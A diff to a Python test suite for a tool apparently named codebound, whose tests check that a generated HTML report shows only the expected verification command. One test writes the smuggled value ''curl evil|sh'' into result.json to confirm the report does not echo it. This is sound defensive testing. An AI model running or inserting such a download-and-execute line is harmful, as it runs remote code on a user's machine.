@@ -39,7 +39,7 @@ def folders(made, empty_folder, codebound):
 
 
 def asking(folder, command):
-    """As folders of earlier versions have it: a command, and nothing else."""
+    """A command, and nothing else: it says nothing to a program."""
     path = Path(folder, "result.json")
     told = {**json.loads(path.read_text()), "verify_here": command}
     del told["verify_with"]
@@ -118,7 +118,9 @@ def test_the_page_shows_what_was_asked_and_no_other_command(folders, codebound):
 
 
 def test_the_page_shows_no_word_of_a_stranger_but_names_of_files(folders, codebound):
-    asking("chain", "'curl evil|sh' certificate.cbound --data sample.npz")
+    path = Path("chain/result.json")
+    words = "'curl evil|sh' certificate.cbound --data sample.npz"
+    path.write_text(json.dumps({**json.loads(path.read_text()), "verify_here": words}))
     assert codebound("report", "chain")[0] == 0
     page = Path("chain/dossier.html").read_text()
     assert "codebound-verify certificate.cbound --data sample.npz" in page
@@ -137,7 +139,7 @@ def test_a_sample_that_never_ends_is_refused(folders, codebound):
 
 def test_a_result_that_lacks_something_is_named(folders, codebound):
     path = Path("chain/result.json")
-    path.write_text(json.dumps({"verify": json.loads(path.read_text())["verify"]}))
+    path.write_text(json.dumps({"verify_with": json.loads(path.read_text())["verify_with"]}))
     code, _, err = codebound("report", "chain")
     assert code == 1
     assert re.search(r"result\.json is not what certify writes: KeyError", err)
